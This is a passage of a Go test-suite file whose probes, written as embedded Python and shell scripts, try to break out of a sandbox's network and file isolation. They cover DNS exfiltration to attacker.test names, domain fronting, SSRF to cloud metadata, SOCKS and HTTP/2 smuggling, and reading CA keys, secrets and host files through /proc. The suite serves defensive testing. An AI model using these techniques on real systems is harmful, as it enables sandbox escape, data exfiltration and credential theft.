package security

import (
	"crypto"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"strings"
)

// Probe is one bypass technique. Exactly one of Python (run with the helper
// library, helper.py) or Shell is set; both run inside the probe sandbox as
// the unprivileged user unless Root is set. Each attempt in a script prints
// one verdict line (BYPASS:, BLOCKED: or ERROR:); the runner adds host-side
// evidence (its canary listeners, the audit log) and Check, when set.
type Probe struct {
	ID        string
	Name      string
	Technique string
	Root      bool
	Python    string
	Shell     string
	// Alone runs the probe by itself after all the others: it disturbs
	// what they observe (disk-fill's file would be read by every
	// filesystem-wide search running beside it).
	Alone bool
	// Check, when set, decides from host-side knowledge before the script's
	// own verdict lines are considered; it returns "" to defer to them.
	Check func(e *Evidence) (result, detail string)
}

// Probes returns the suite, in the order it is reported.
func Probes() []Probe {
	return []Probe{
		{ID: "dns-getent", Name: "DNS exfiltration via the libc resolver",
			Technique: "getent hosts/ahosts for a fresh attacker name: any answer means a query left the sandbox",
			Shell: `n="x-$NONCE.$PROBE_ID.attacker.test"
for m in hosts ahostsv4 ahosts; do
  if out=$(timeout 5 getent $m "$n" 2>&1); then echo "BYPASS: getent $m $n answered: $out"; else echo "BLOCKED: getent $m $n: no answer (rc=$?)"; fi
done
cat /etc/resolv.conf 2>/dev/null | head -3 | sed 's/^/info: /'`,
			Check: auditNeverResolved},
		{ID: "dns-getaddrinfo", Name: "DNS exfiltration via getaddrinfo",
			Technique: "python socket.getaddrinfo/gethostbyname for attacker names (A, AAAA, any family)",
			Python: `def q(fam):
    n = exfil_name("gai%d" % fam)
    r = socket.getaddrinfo(n, 443, fam)
    return "BYPASS", "%s resolved to %s" % (n, r[0][4])
def gh():
    n = exfil_name("ghbn")
    return "BYPASS", "%s resolved to %s" % (n, socket.gethostbyname(n))
for fam in (0, socket.AF_INET, socket.AF_INET6):
    attempt("getaddrinfo family %d" % fam, q, fam)
attempt("gethostbyname", gh)`,
			Check: auditNeverResolved},
		{ID: "dns-udp-public", Name: "DNS over UDP to public resolvers",
			Technique: "raw UDP DNS queries for attacker names to 8.8.8.8, 1.1.1.1 and 2001:4860:4860::8888 port 53",
			Python: `for h, fam in (("8.8.8.8", socket.AF_INET), ("1.1.1.1", socket.AF_INET), ("2001:4860:4860::8888", socket.AF_INET6)):
    attempt("udp " + h, udp, h, 53, dnsq(exfil_name("udp")), fam)`},
		{ID: "dns-udp-local", Name: "DNS over UDP to local stub resolvers",
			Technique: "UDP DNS to 127.0.0.53:53 (systemd-resolved), 127.0.0.1:53 and the host canary's UDP port",
			Python: `for h, p in (("127.0.0.53", 53), ("127.0.0.1", 53), ("127.0.0.1", CU)):
    attempt("udp %s:%d" % (h, p), udp, h, p, dnsq(exfil_name("stub")))`},
		{ID: "dns-tcp", Name: "DNS over TCP to a chosen server",
			Technique: "TCP DNS to 8.8.8.8:53 directly and through the proxy (CONNECT 8.8.8.8:53, dns.google:53, the forbidden name on the canary port)",
			Python: `def viaproxy(h, p):
    s, head = connect(h, p)
    if code(head) != 200:
        return "BLOCKED", "CONNECT %s: %s%s" % (hp(h, p), first(head), why(head))
    m = dnsq(exfil_name("tcp"))
    s.sendall(struct.pack(">H", len(m)) + m)
    r = readall(s, 3)
    return "BYPASS", "DNS over TCP through the proxy to %s answered %r" % (hp(h, p), r[:40])
def dtcp():
    s = socket.create_connection(("8.8.8.8", 53), timeout=3)
    m = dnsq(exfil_name("dtcp"))
    s.sendall(struct.pack(">H", len(m)) + m)
    return "BYPASS", "direct TCP DNS answered %r" % readall(s, 3)[:40]
attempt("direct 8.8.8.8:53", dtcp)
for h, p in (("8.8.8.8", 53), ("dns.google", 53), (FB, CP)):
    attempt("proxy " + hp(h, p), viaproxy, h, p)`},
		{ID: "dns-proxy-name", Name: "DNS exfiltration through proxy names",
			Technique: "ask the proxy for https://<data>.attacker.test: the name reaches the proxy, which must refuse it before resolving (audit shows no IP)",
			Shell: `for i in 1 2; do
  out=$(curl -sS --max-time 5 -o /dev/null -w '%{http_connect} %{http_code}' -x http://127.0.0.1:3128 "https://d$i-$NONCE.$PROBE_ID.attacker.test/" 2>&1)
  case "$out" in 403*|*"403 "*|*" 403"*) echo "BLOCKED: proxy refused attacker name ($out)";; "200 "*) echo "BYPASS: proxy tunnelled to the attacker name ($out)";; *) echo "BLOCKED: no tunnel ($out)";; esac
done`,
			Check: auditNeverResolved},
		{ID: "doh-ip", Name: "DNS over HTTPS to an IP",
			Technique: "curl https://1.1.1.1/dns-query and https://8.8.8.8/resolve through the proxy; CONNECT dns.google:443",
			Shell: `for u in "https://1.1.1.1/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUDY29tAAABAAE" "https://8.8.8.8/resolve?name=x-$NONCE.attacker.test" "https://[2606:4700:4700::1111]/dns-query?name=x"; do
  out=$(curl -sS --max-time 5 --noproxy '' -x http://127.0.0.1:3128 -o /dev/null -w '%{http_connect} %{http_code}' -H 'accept: application/dns-message' "$u" 2>&1)
  case "$out" in "200 "*) echo "BYPASS: $u tunnelled ($out)";; *) echo "BLOCKED: $u ($out)";; esac
done
out=$(curl -sS --max-time 5 --noproxy '' -x http://127.0.0.1:3128 -o /dev/null -w '%{http_connect} %{http_code}' "https://dns.google/resolve?name=x-$NONCE.attacker.test" 2>&1)
case "$out" in "200 "*) echo "BYPASS: dns.google tunnelled ($out)";; *) echo "BLOCKED: dns.google ($out)";; esac`},
		{ID: "raw-ip-direct", Name: "Raw IP connections without the proxy",
			Technique: "python TCP connect to 1.1.1.1:443, 8.8.8.8:53, 93.184.216.34:80 and 2606:4700:4700::1111:443, no proxy",
			Python: `for h, p, fam in (("1.1.1.1", 443, socket.AF_INET), ("8.8.8.8", 53, socket.AF_INET), ("93.184.216.34", 80, socket.AF_INET), ("2606:4700:4700::1111", 443, socket.AF_INET6)):
    attempt("direct " + hp(h, p), direct, h, p, fam)`},
		{ID: "ip-literal-proxy", Name: "IPv4 literals through the proxy",
			Technique: "CONNECT and absolute-URI GET to the host canary as 127.0.0.1, 2130706433, 0x7f.1, 0177.0.0.1, 127.1, 0x7f000001, 127.000.000.001",
			Python: `for h in ("127.0.0.1", "2130706433", "0x7f.1", "0177.0.0.1", "127.1", "0x7f000001", "127.000.000.001", "127.0.0.2"):
    attempt("CONNECT " + h, connect_verdict, h, CP)
for h in ("127.0.0.1", "2130706433", "0x7f.0.0.1"):
    u = "http://%s:%d/%s" % (h, CP, PID)
    attempt("GET " + u, lambda: refused(get_abs(u, "%s:%d" % (h, CP)), u))`},
		{ID: "ipv6-literal", Name: "IPv6 literals and IPv4-embedding forms",
			Technique: "CONNECT to [::1], [::ffff:127.0.0.1], [::ffff:7f00:1], [64:ff9b::7f00:1], [2002:7f00:1::], [fe80::1], [2606:4700:4700::1111]; direct AF_INET6",
			Python: `for h in ("::1", "::ffff:127.0.0.1", "::ffff:7f00:1", "64:ff9b::7f00:1", "2002:7f00:1::", "::127.0.0.1", "fe80::1", "2606:4700:4700::1111"):
    attempt("CONNECT [%s]" % h, connect_verdict, h, CP)
attempt("GET [::1]", lambda: refused(get_abs("http://[::1]:%d/%s" % (CP, PID), "[::1]:%d" % CP), "GET [::1]"))
attempt("direct [2606:4700:4700::1111]:443", direct, "2606:4700:4700::1111", 443, socket.AF_INET6)`},
		{ID: "sni-mismatch", Name: "Domain fronting with a different TLS SNI",
			Technique: "CONNECT to the allowed host, then a TLS ClientHello with SNI = the forbidden name (and with no SNI); success = an HTTP answer over that TLS",
			Python: `def front(sni):
    s = allowed_tunnel()
    t = tls(s, sni)
    host = sni or AH
    t.sendall(("GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (PID, host)).encode())
    r = readall(t, 3)
    if code(r):
        return "BYPASS", "TLS with SNI %r inside a tunnel to %s answered %s" % (sni, AH, first(r))
    return "BLOCKED", "TLS completed but no HTTP answer"
attempt("SNI " + FB, front, FB)
attempt("SNI " + FB.upper() + "-suffix", front, FB + "." + AH + ".evil.test")
attempt("no SNI", front, None)`},
		{ID: "fronting-curl", Name: "Domain fronting with curl --connect-to/--resolve",
			Technique: "curl https://<forbidden>/ with --connect-to <forbidden>:443:<allowed>:<port> and --resolve through the proxy and without it",
			Shell: `a="$ALLOWED_HOST:$ALLOWED_PORT"
for args in "--connect-to $FORBIDDEN:443:$a" "--connect-to ::$a" "--resolve $FORBIDDEN:443:127.0.0.1 --noproxy *" "--connect-to $FORBIDDEN:443:$a --noproxy *"; do
  out=$(curl -ksS --max-time 5 -x http://127.0.0.1:3128 $args -o /tmp/fc.out -w '%{http_connect} %{http_code}' "https://$FORBIDDEN/$PROBE_ID" 2>&1)
  case "$out" in *" 000"|*"000") echo "BLOCKED: curl $args: $out";; *) if grep -q 'space egress' /tmp/fc.out 2>/dev/null; then echo "BLOCKED: curl $args: proxy refused ($out)"; else echo "BYPASS: curl $args got an HTTP answer: $out $(head -c 80 /tmp/fc.out)"; fi;; esac
done`},
		{ID: "host-mismatch-tunnel", Name: "Host header mismatch in a plain-HTTP tunnel",
			Technique: "CONNECT to the allowed host, then plain HTTP with Host: <forbidden>",
			Python: `def f(host):
    s = allowed_tunnel()
    s.sendall(("GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (PID, host)).encode())
    return refused(readall(s, 3), "Host " + host)
attempt("Host forbidden", f, FB)
attempt("Host forbidden:port", f, hp(FB, CP))`},
		{ID: "host-mismatch-absolute", Name: "Host header mismatch on absolute-URI HTTP",
			Technique: "GET http://<allowed>/ with Host: <forbidden>, and GET http://<forbidden>/ with Host: <allowed>",
			Python: `attempt("uri allowed, Host forbidden", lambda: refused(get_abs("http://%s/%s" % (hp(AH, AP), PID), hp(FB, CP)), "allowed URI"))
attempt("uri forbidden, Host allowed", lambda: refused(get_abs("http://%s/%s" % (hp(FB, CP), PID), hp(AH, AP)), "forbidden URI"))
attempt("duplicate Host", lambda: refused(get_abs("http://%s/%s" % (hp(AH, AP), PID), hp(AH, AP), "Host: %s\r\n" % hp(FB, CP)), "two Hosts"))`},
		{ID: "host-mismatch-tls", Name: "Host header mismatch inside TLS to the allowed host",
			Technique: "TLS to the allowed host (SNI correct, intercepted because a secret is bound), then HTTP with Host: <forbidden>",
			Python: `def f():
    t = tls(allowed_tunnel(), AH)
    t.sendall(("GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (PID, hp(FB, CP))).encode())
    r = readall(t, 3)
    if b"space-canary" in r:
        return "BYPASS", "reached the canary: " + first(r)
    if code(r) and not from_proxy(r) and (FB.encode() in r):
        return "BYPASS", "the upstream served Host %s: %s" % (FB, first(r))
    return "BLOCKED", first(r) + why(r)
attempt("TLS Host forbidden", f)`},
		{ID: "nested-connect", Name: "CONNECT inside the allowed tunnel",
			Technique: "CONNECT to the allowed host, then CONNECT <forbidden>:<canary> and CONNECT 127.0.0.1:<canary> inside it (plain and inside TLS)",
			Python: `def plain(t):
    s = allowed_tunnel()
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (t, t)).encode())
    r = readall(s, 3)
    return refused(r, "nested CONNECT " + t) if code(r) != 200 else ("BYPASS", "nested CONNECT %s answered %s" % (t, first(r)))
def intls(t):
    s = tls(allowed_tunnel(), AH)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (t, t)).encode())
    r = readall(s, 3)
    if b"space-canary" in r:
        return "BYPASS", "nested CONNECT in TLS reached the canary"
    return "BLOCKED", "in TLS: %s%s" % (first(r), why(r))
for t in (hp(FB, CP), "127.0.0.1:%d" % CP):
    attempt("plain " + t, plain, t)
    attempt("tls " + t, intls, t)`},
		{ID: "redirect-private", Name: "HTTP redirect to a private address",
			Technique: "the allowed upstream's /redirect?to= answers 302 to http://127.0.0.1:<canary> and the metadata address; curl -L and urllib follow it",
			Shell: `base="https://$ALLOWED_HOST:$ALLOWED_PORT/redirect?to="
for to in "http://127.0.0.1:$CANARY_PORT/$PROBE_ID" "http://$FORBIDDEN:$CANARY_PORT/$PROBE_ID" "http://169.254.169.254/latest/meta-data/"; do
  for np in "" "localhost"; do
    out=$(NO_PROXY=$np no_proxy=$np curl -sS -L --max-redirs 3 --max-time 6 -o /tmp/rd.out -w '%{num_redirects} %{http_code} %{url_effective}' "$base$to" 2>&1)
    echo "BLOCKED: follow $to (NO_PROXY='$np'): redirects/code/url: $out $(head -c 60 /tmp/rd.out | tr -d '\n')"
  done
done
python3 -c "import urllib.request as u
try: print('BLOCKED: urllib', u.urlopen('${base}http://127.0.0.1:$CANARY_PORT/$PROBE_ID', timeout=6).read()[:80])
except Exception as e: print('BLOCKED: urllib', type(e).__name__, str(e)[:100])"`},
		{ID: "dns-rebinding", Name: "DNS rebinding: an allowed name resolving to a private address",
			Technique: "the policy allows REBIND (mapped by the operator to 127.0.0.2, not in the allowed CIDRs); CONNECT and GET it",
			Python: `if not RB:
    say("BLOCKED", "no rebinding name configured: only the name check applies")
    attempt("CONNECT localtest", connect_verdict, "localtest.me", CP)
else:
    attempt("CONNECT " + RB, connect_verdict, RB, CP)
    attempt("GET " + RB, lambda: refused(get_abs("http://%s/%s" % (hp(RB, CP), PID), hp(RB, CP)), "GET " + RB))`},
		{ID: "metadata-direct", Name: "Cloud metadata address, directly",
			Technique: "TCP to 169.254.169.254:80 and [fd00:ec2::254]:80 without the proxy",
			Python: `attempt("direct 169.254.169.254:80", direct, "169.254.169.254", 80)
attempt("direct [fd00:ec2::254]:80", direct, "fd00:ec2::254", 80, socket.AF_INET6)`},
		{ID: "metadata-proxy", Name: "Cloud metadata address through the proxy",
			Technique: "GET http://169.254.169.254/latest/meta-data/, CONNECT 169.254.169.254:80, metadata.google.internal, 0xa9fea9fe, [::ffff:169.254.169.254]",
			Python: `attempt("GET", lambda: refused(get_abs("http://169.254.169.254/latest/meta-data/", "169.254.169.254", "Metadata-Flavor: Google\r\n"), "GET metadata"))
for h in ("169.254.169.254", "metadata.google.internal", "0xa9fea9fe", "::ffff:169.254.169.254", "instance-data"):
    attempt("CONNECT " + h, connect_verdict, h, 80)`},
		{ID: "host-api-proxy", Name: "The host's loopback services through the proxy",
			Technique: "the space API port and the host canary via http://127.0.0.1, localhost, [::1], 0.0.0.0 through the proxy",
			Python: `for h in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "0"):
    for p in (API, CP):
        if p:
            attempt("CONNECT %s" % hp(h, p), connect_verdict, h, p)
    if API:
        attempt("GET %s/healthz" % hp(h, API), lambda: refused(get_abs("http://%s/healthz" % hp(h, API), hp(h, API)), "GET api"))`},
		{ID: "host-loopback-direct", Name: "The host's loopback services directly",
			Technique: "direct TCP to 127.0.0.1:<api port> and 127.0.0.1:<canary> (the sandbox's loopback must not be the host's)",
			Python: `for p in (API, CP):
    if p:
        attempt("direct 127.0.0.1:%d" % p, direct, "127.0.0.1", p)
        attempt("direct [::1]:%d" % p, direct, "::1", p, socket.AF_INET6)`},
		{ID: "private-ranges", Name: "Other sandboxes and private networks",
			Technique: "direct and via proxy: 10.0.0.1, 172.17.0.1 (docker bridge), 192.168.0.1, 100.64.0.1 (CGNAT), [fd00::1], 10.255.255.254",
			Python: `for h in ("10.0.0.1", "172.17.0.1", "192.168.0.1", "100.64.0.1", "10.255.255.254"):
    attempt("direct %s:80" % h, direct, h, 80, socket.AF_INET, 2)
    attempt("CONNECT %s:80" % h, connect_verdict, h, 80)
attempt("CONNECT [fd00::1]:80", connect_verdict, "fd00::1", 80)
attempt("direct [fd00::1]:80", direct, "fd00::1", 80, socket.AF_INET6, 2)`},
		{ID: "udp-quic", Name: "UDP / QUIC",
			Technique: "QUIC-like UDP datagrams to 1.1.1.1:443, [2606:4700:4700::1111]:443 and the host canary's UDP port; UDP connect()",
			Python: `quic = bytes([0xc3, 0, 0, 0, 1, 8]) + os.urandom(8) + bytes([0]) + os.urandom(1100)
attempt("udp 1.1.1.1:443", udp, "1.1.1.1", 443, quic)
attempt("udp [2606:4700:4700::1111]:443", udp, "2606:4700:4700::1111", 443, quic, socket.AF_INET6)
attempt("udp 127.0.0.1:%d" % CU, udp, "127.0.0.1", CU, PID.encode())
def uc():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("1.1.1.1", 443))
    a = s.getsockname()
    if a[0].startswith(("127.", "0.")):
        return "BLOCKED", "only loopback: %s" % (a,)
    return "BYPASS", "UDP socket routed via %s" % (a,)
attempt("udp connect", uc)`},
		{ID: "icmp", Name: "ICMP echo",
			Technique: "unprivileged ICMP (SOCK_DGRAM IPPROTO_ICMP) echo to 1.1.1.1 and 8.8.8.8; ping(8) if present",
			Python: `def ping(h):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.settimeout(2)
    s.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 1) + b"space", (h, 0))
    d, a = s.recvfrom(1024)
    return "BYPASS", "ICMP reply from %s" % (a,)
for h in ("1.1.1.1", "8.8.8.8"):
    attempt("icmp " + h, ping, h)
import shutil, subprocess
if shutil.which("ping"):
    r = subprocess.run(["ping", "-c1", "-W2", "1.1.1.1"], capture_output=True)
    say("BYPASS" if r.returncode == 0 else "BLOCKED", "ping rc=%d" % r.returncode)`},
		{ID: "proxy-env-unset", Name: "Ignoring the proxy variables",
			Technique: "env -u HTTPS_PROXY... curl, curl --noproxy '*', python with proxies disabled: straight to the allowed name and the canary",
			Shell: `for u in "https://$ALLOWED_HOST:$ALLOWED_PORT/$PROBE_ID" "http://127.0.0.1:$CANARY_PORT/$PROBE_ID" "https://1.1.1.1/"; do
  out=$(env -u HTTPS_PROXY -u HTTP_PROXY -u ALL_PROXY -u https_proxy -u http_proxy -u all_proxy curl -ksS --max-time 4 "$u" 2>&1 | head -c 200)
  case "$out" in *space-canary*|*"host="*) echo "BYPASS: $u without proxy: $out";; *) echo "BLOCKED: $u without proxy: $out";; esac
done
python3 -c "
import urllib.request as u
o = u.build_opener(u.ProxyHandler({}))
try: print('BYPASS: python direct', o.open('https://$ALLOWED_HOST:$ALLOWED_PORT/', timeout=4).status)
except Exception as e: print('BLOCKED: python direct', type(e).__name__, str(e)[:100])"`},
		{ID: "raw-socket-user", Name: "Raw sockets as the user",
			Technique: "SOCK_RAW IPPROTO_ICMP/IPPROTO_RAW as uid 1000, then an echo to 1.1.1.1",
			Python:    rawSocketScript},
		{ID: "raw-socket-root", Name: "Raw sockets as root", Root: true,
			Technique: "SOCK_RAW IPPROTO_ICMP/IPPROTO_RAW as root inside the sandbox, then an echo to 1.1.1.1",
			Python:    rawSocketScript},
		{ID: "af-packet", Name: "AF_PACKET and network interfaces", Root: true,
			Technique: "socket(AF_PACKET, SOCK_RAW) as root; any interface other than lo would be a NIC to send frames on",
			Python: `ifs = [n for _, n in socket.if_nameindex()]
say("BYPASS" if [i for i in ifs if i != "lo"] else "BLOCKED", "interfaces: %s" % ifs)
def pk():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    others = [i for i in ifs if i != "lo"]
    if not others:
        return "BLOCKED", "AF_PACKET socket opened but only loopback exists"
    s.bind((others[0], 0))
    s.send(b"\xff" * 6 + b"\x02" * 6 + b"\x08\x06" + b"\0" * 28)
    return "BYPASS", "sent a frame on " + others[0]
attempt("AF_PACKET", pk)`},
		{ID: "placeholder-forbidden", Name: "Secret placeholder to a disallowed destination",
			Technique: "the placeholder in a header, query and basic auth to the forbidden name and to 127.0.0.1:<canary>; in the CONNECT host",
			Python: `def send(url, hosth, extra):
    return refused(get_abs(url, hosth, extra), url[:60])
for base in ("http://%s/%s" % (hp(FB, CP), PID), "http://127.0.0.1:%d/%s" % (CP, PID)):
    hh = base.split("/")[2]
    attempt("header " + hh, send, base, hh, "Authorization: Bearer %s\r\n" % PH)
    attempt("query " + hh, send, base + "?key=" + PH, hh, "")
    attempt("basic " + hh, send, base, hh, "Authorization: Basic %s\r\n" % base64.b64encode(("u:" + PH).encode()).decode())
attempt("CONNECT host", connect_verdict, None, None, "%s.%s" % (PH, hp(FB, CP)))`},
		{ID: "placeholder-unbound", Name: "Secret placeholder to an allowed but unbound host",
			Technique: "the placeholder in a header, query string and basic auth over plain HTTP to a second allowed host the secret is not bound to (or the allowed host itself over plain HTTP)",
			Python: `h = hp(UB, UP) if UB else hp(AH, AP)
base = "http://%s/%s" % (h, PID)
attempt("header", lambda: refused(get_abs(base, h, "Authorization: Bearer %s\r\n" % PH), "header"))
attempt("query", lambda: refused(get_abs(base + "?key=" + PH, h), "query"))
attempt("basic", lambda: refused(get_abs(base, h, "Authorization: Basic %s\r\n" % base64.b64encode(("u:" + PH).encode()).decode()), "basic"))
attempt("cookie", lambda: refused(get_abs(base, h, "Cookie: t=%s\r\n" % PH), "cookie"))
if UB:
    def tunnelled():
        s, head = connect(UB, UP)
        if code(head) != 200:
            return "BLOCKED", "CONNECT: " + first(head) + why(head)
        s.sendall(("GET /%s?key=%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (PID, PH, h)).encode())
        return refused(readall(s, 3), "plain HTTP in a tunnel")
    attempt("in tunnel", tunnelled)`},
		{ID: "placeholder-sni", Name: "Secret placeholder in TLS SNI",
			Technique: "CONNECT to the allowed host, then a ClientHello whose SNI is <placeholder>.<allowed host>",
			Python: `def f():
    t = tls(allowed_tunnel(), PH.lower() + "." + AH)
    t.sendall(("GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % AH).encode())
    r = readall(t, 3)
    return ("BYPASS", "handshake with the placeholder in SNI answered " + first(r)) if code(r) else ("BLOCKED", "no answer")
attempt("SNI", f)`},
		{ID: "ca-key-read", Name: "Reading the TLS interception CA key", Root: true,
			Technique: "search the sandbox filesystem, /proc/*/environ and /.space/run for PRIVATE KEY blocks; any that matches the sandbox's CA certificate is a bypass",
			Shell: `echo "=== CA"; cat /usr/local/share/ca-certificates/space-egress.crt 2>/dev/null
echo "=== KEYS"
timeout 25 grep -rlIs --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev -e 'PRIVATE KEY' / 2>/dev/null | head -50 > /tmp/keys.txt
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\0' '\n' < "$f" 2>/dev/null | grep -q 'PRIVATE KEY' && echo "$f" >> /tmp/keys.txt; done
ls -la /.space/run 2>&1 | sed 's/^/info: /'
while read -r f; do echo "--- $f"; tr '\0' '\n' < "$f" | sed -n '/BEGIN.*PRIVATE KEY/,/END.*PRIVATE KEY/p' | head -100; done < /tmp/keys.txt
echo "=== END"`,
			Check: checkCAKey},
		{ID: "secret-value-read", Name: "Reading the secret's value", Root: true,
			Technique: "the real value (prefix known to the runner, value not) searched in env, /proc/*/environ, /proc/*/cmdline and the filesystem; the runner checks the output for the value",
			Shell: `{ env; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\0' '\n' < "$f" 2>/dev/null; done; } | grep -ao 'spaceprobe-secret-[0-9a-f]*' | sort -u | sed 's/^/found: /'
timeout 20 grep -rIaohs --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 'spaceprobe-secret-[0-9a-f]*' / 2>/dev/null | sort -u | head | sed 's/^/found: /'
echo "placeholder: $(env | grep -c space_ph_) variables hold placeholders"`,
			Check: checkSecretValue},
		{ID: "agent-socket", Name: "Talking to the host over the agent socket",
			Technique: "as the user, connect to /.space/run/agent.sock (the host's end of the agent channel) and open a yamux stream",
			Python: `def f():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect("/.space/run/agent.sock")
    s.sendall(struct.pack(">BBHII", 0, 1, 1, 1, 256 * 1024))
    r = readall(s, 2)
    return ("BYPASS", "the host answered on the agent socket: %r" % r[:40]) if r else ("BLOCKED", "connected but the host sent nothing")
attempt("agent.sock as user", f)
say("BLOCKED", "run dir: " + oct(os.stat("/.space/run").st_mode) if os.path.exists("/.space/run") else "no /.space/run")`},
		{ID: "agent-impostor", Name: "Impersonating the agent to the host", Root: true,
			Technique: "as root, freeze the agent (SIGSTOP to PID 1, for at most 3 s: other probes' traffic through the agent waits meanwhile), connect to /.space/run/agent.sock in its place, answer the host's challenge with a made-up MAC, or, unchallenged, open a yamux stream as an agent would; also read the agent's secret file",
			Python:    agentImpostorScript},
		{ID: "agent-secret", Name: "Reading the agent's secret as the user",
			Technique: "as the user, read /.space/run/agent.secret (the agent's per-boot secret), list /.space/run, open the agent's /proc/1/mem and /proc/1/environ",
			Python: `def rd(p, n):
    with open(p, "rb") as f:
        b = f.read(n)
    return "BYPASS", "%s is readable as the user (%d bytes)" % (p, len(b))
attempt("read /.space/run/agent.secret", rd, "/.space/run/agent.secret", 64)
def ls():
    return "BLOCKED", "/.space/run lists %s (names only)" % os.listdir("/.space/run")
attempt("list /.space/run", ls)
for p in ("/proc/1/mem", "/proc/1/environ"):
    attempt("open " + p, rd, p, 1)`},
		{ID: "host-files", Name: "Host files through /proc and ../ paths", Root: true,
			Technique: "read a canary file the runner wrote on the host (HOST_FILE) via /proc/1/root, /proc/*/root, ../ walks, /.space bind mounts and a filesystem-wide find",
			Shell: `f="$HOST_FILE"
for p in "$f" "/proc/1/root$f" "/proc/self/root$f" "/.space/run/../../../..$f" "/.space/bin/../../../../..$f" "/proc/1/cwd/../../..$f"; do
  out=$(timeout 3 cat "$p" 2>&1 | head -c 120); echo "BLOCKED: $p: $out"
done
for d in /proc/[0-9]*/root; do timeout 2 cat "$d$f" 2>/dev/null | head -c 120; done
timeout 15 find / -xdev -name "$(basename "$f")" 2>/dev/null | head -3 | while read -r p; do echo "BLOCKED: found $p: $(head -c 120 "$p")"; done
mount 2>/dev/null | grep -v -e ' / ' | head -8 | sed 's/^/info: /'`},
		{ID: "host-bind-write", Name: "Writing through host bind mounts", Root: true,
			Technique: "as root, open the host's agent binary (bind-mounted at /.space/bin/space-agent) for writing, change its times (nothing is written)",
			Python: `p = "/.space/bin/space-agent"
def w():
    fd = os.open(p, os.O_WRONLY | os.O_APPEND)
    os.close(fd)
    return "BYPASS", p + " is writable from the sandbox"
def ut():
    st = os.stat(p)
    os.utime(p, ns=(st.st_atime_ns, st.st_mtime_ns))
    return "BYPASS", "changed the times of the host's agent binary"
attempt("open for write", w)
attempt("utime", ut)`},
		{ID: "other-port", Name: "Other ports on the allowed host",
			Technique: "CONNECT <allowed>:<canary>, <allowed>:22, <allowed>:80 and GET http://<allowed>:<canary>/",
			Python: `for p in (CP, 22, 80, 8080):
    attempt("CONNECT %s" % hp(AH, p), connect_verdict, AH, p)
attempt("GET", lambda: refused(get_abs("http://%s/%s" % (hp(AH, CP), PID), hp(AH, CP)), "GET other port"))`},
		{ID: "socks5", Name: "SOCKS through the proxy port",
			Technique: "a SOCKS5 and SOCKS4 handshake to 127.0.0.1:3128 asking for 127.0.0.1:<canary>; curl with ALL_PROXY=socks5h://127.0.0.1:3128",
			Python: `def s5():
    s = proxy()
    s.sendall(b"\x05\x01\x00")
    r = s.recv(2)
    if r != b"\x05\x00":
        return "BLOCKED", "no SOCKS5 greeting: %r" % r[:20]
    s.sendall(b"\x05\x01\x00\x01\x7f\x00\x00\x01" + struct.pack(">H", CP))
    r = s.recv(10)
    return ("BYPASS", "SOCKS5 CONNECT granted: %r" % r) if r[1:2] == b"\x00" else ("BLOCKED", "SOCKS5 CONNECT refused %r" % r)
def s4():
    s = proxy()
    s.sendall(b"\x04\x01" + struct.pack(">H", CP) + b"\x7f\x00\x00\x01user\x00")
    r = readall(s, 2)
    return ("BYPASS", "SOCKS4 granted") if r[1:2] == b"\x5a" else ("BLOCKED", "SOCKS4: %r" % r[:30])
attempt("socks5", s5)
attempt("socks4", s4)
import subprocess
r = subprocess.run(["curl", "-sS", "--max-time", "4", "-x", "socks5h://127.0.0.1:3128", "http://%s/%s" % (hp(FB, CP), PID)], capture_output=True)
say("BYPASS" if b"space-canary" in r.stdout else "BLOCKED", "curl socks5h rc=%d %s" % (r.returncode, r.stderr[:100]))`},
		{ID: "http2-prior-knowledge", Name: "HTTP/2 prior knowledge to the proxy",
			Technique: "the h2 preface, SETTINGS and a HEADERS frame for http://<forbidden>:<canary>/ sent straight to the proxy; curl --http2-prior-knowledge",
			Python: `def lit(n, v):
    n, v = n.encode(), v.encode()
    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v
def frame(t, f, sid, p):
    return struct.pack(">I", len(p))[1:] + bytes([t, f]) + struct.pack(">I", sid) + p
def h2(auth):
    hdrs = lit(":method", "GET") + lit(":scheme", "http") + lit(":authority", auth) + lit(":path", "/" + PID)
    r = raw(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 5, 1, hdrs), 3)
    if b"space-canary" in r:
        return "BYPASS", "h2 request reached the canary"
    if from_proxy(r) or not r:
        return "BLOCKED", "h2 preface: %s%s" % (first(r) if r else "closed", why(r))
    return "BLOCKED", "h2: proxy answered %r (no tunnel)" % r[:30]
attempt("h2 forbidden", h2, hp(FB, CP))
attempt("h2 loopback", h2, "127.0.0.1:%d" % CP)
import subprocess
r = subprocess.run(["curl", "-sS", "--max-time", "4", "--http2-prior-knowledge", "--noproxy", "", "-x", "http://127.0.0.1:3128", "http://%s/%s" % (hp(FB, CP), PID)], capture_output=True)
say("BYPASS" if b"space-canary" in r.stdout else "BLOCKED", "curl h2 prior knowledge rc=%d %s" % (r.returncode, r.stdout[:80] + r.stderr[:80]))`},
		{ID: "websocket-upgrade", Name: "WebSocket upgrade to a disallowed host",
			Technique: "Upgrade: websocket to http://<forbidden>:<canary>/ through the proxy, and inside the allowed tunnel with Host: <forbidden>",
